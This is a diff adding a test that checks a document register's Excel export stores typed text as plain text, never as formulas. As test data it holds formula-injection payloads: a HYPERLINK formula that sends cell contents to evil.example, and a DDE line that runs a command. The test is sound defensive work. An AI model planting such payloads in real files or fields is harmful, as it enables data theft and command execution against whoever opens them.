@@ -231,3 +231,27 @@ def test_a_report_round_of_a_recalled_plan_reaches_no_unit(client, login, app, p
     assert response.status_code == 200 and "hủy hoặc thu hồi" in response.get_data(as_text=True)
     with app.app_context():
         assert _notifications_and_assignments() == before
+
+
+# ---- the register's Excel export: what people typed stays text, never a formula Excel would run -------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def test_typed_text_in_the_exported_register_is_never_a_formula(client, login, app, people):
+    import io
+
+    from openpyxl import load_workbook
+
+    with app.app_context():
+        document = register_fixtures.make_document(FORMULA, recipients=["=1+1", people["district"]])
+        db.session.commit()
+        reg.issue(document, wf_user("records"), register_fixtures.office_time(2026, 3, 2, 9, 0), keeper="@SUM(A1)",
+                  notes="+cmd|' /C calc'!A0")
+        db.session.commit()
+    login("records")
+    sheet = load_workbook(io.BytesIO(client.get("/register/export.xlsx?year=2026").data)).active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = " ".join(str(c.value) for c in cells)
+    assert "HYPERLINK" in texts and "=1+1" in texts
